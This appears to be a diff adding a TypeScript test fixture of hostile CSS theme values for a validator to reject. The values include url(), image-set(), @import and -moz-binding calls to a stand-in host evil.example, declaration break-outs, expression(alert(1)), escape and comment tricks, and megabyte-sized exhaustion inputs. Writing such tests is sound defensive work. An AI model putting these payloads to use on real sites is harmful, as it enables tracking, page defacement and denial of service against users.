@@ -1,0 +1,21 @@
+/** What a theme value must never be able to do (case 83): load, leave its declaration, read other properties, exhaust. */
+export const hostileValues: readonly [name: string, value: unknown][] = [
+  ['url()', 'url(https://evil.example/track)'],
+  ['a url after a colour', '#fff url(//evil.example)'],
+  ['image-set()', 'image-set("https://evil.example/a.png" 1x)'],
+  ['a closed declaration', '#fff;}body{display:none}'],
+  ['a closed rule', '#fff}'],
+  ['var()', 'var(--secret)'],
+  ['expression()', 'expression(alert(1))'],
+  ['-moz-binding', '#fff;-moz-binding:url(//evil.example/x.xml#x)'],
+  ['an import', '@import "//evil.example"'],
+  ['a comment', '#ff/**/f'],
+  ['an escape', '\\75rl(//evil.example)'],
+  ['a line break', '#fff\n;color:red'],
+  ['a megabyte', '#' + 'f'.repeat(1_000_000)],
+  ['a megabyte of digits', `rgb(${'1'.repeat(1_000_000)},2,3)`],
+  ['a megabyte of brackets', 'rgb('.repeat(250_000)],
+  ['a number', 0xffffff],
+  ['an object', { toString: 1 }],
+  ['null', null],
+]
